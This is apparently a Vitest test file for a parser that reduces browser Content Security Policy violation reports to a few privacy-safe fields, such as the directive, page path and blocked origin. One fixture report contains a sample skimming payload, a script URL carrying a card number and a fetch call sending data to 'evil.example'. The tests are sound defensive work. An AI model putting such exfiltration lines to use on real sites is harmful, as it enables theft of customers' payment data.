import { expect, test } from 'vitest';
import { parseReports } from './csp-reports.ts';

const old = {
  'csp-report': {
    'document-uri': 'https://orders.example/payment-success?payment_id=5b2f0c9e1d3a4f60&email=ada@example.com',
    'effective-directive': 'script-src-elem',
    'blocked-uri': 'https://evil.example/steal.js?card=4111111111111111',
    'script-sample': 'fetch("//evil.example?"+name)',
    disposition: 'enforce',
  },
};
const current = [
  { type: 'deprecation', body: { id: 'x' } },
  {
    type: 'csp-violation',
    url: 'https://orders.example/checkout',
    body: {
      documentURL: 'https://orders.example/checkout',
      effectiveDirective: 'style-src-attr',
      blockedURL: 'inline',
      disposition: 'report',
    },
  },
];

test('of a report the directive, the page and the blocked origin are kept, and nothing else', () => {
  expect(parseReports(JSON.stringify(old))).toEqual([
    { directive: 'script-src-elem', page: '/payment-success', blocked: 'https://evil.example', enforced: true },
  ]);
  expect(parseReports(JSON.stringify(current))).toEqual([
    { directive: 'style-src-attr', page: '/checkout', blocked: 'inline', enforced: false },
  ]);
});

test('invented values become "other", so that no text of strangers is logged', () => {
  const body = {
    documentURL: 'https://orders.example/ada@example.com',
    effectiveDirective: 'Ada Lovelace',
    blockedURL: 'https://a.test;ada/',
    disposition: 'Ada',
  };
  expect(parseReports(JSON.stringify([{ type: 'csp-violation', body }]))).toEqual([
    { directive: 'other', page: 'other', blocked: 'other', enforced: true },
  ]);
});

test('at most ten reports of one request are counted', () => {
  const many = Array.from({ length: 50 }, () => current[1]);
  expect(parseReports(JSON.stringify(many))).toHaveLength(10);
});

test.each(['', '{', '{}', 'null', '7', '[7]', '{"csp-report": 7}'])('%s is no report', (json) => {
  expect(parseReports(json)).toBeUndefined();
});
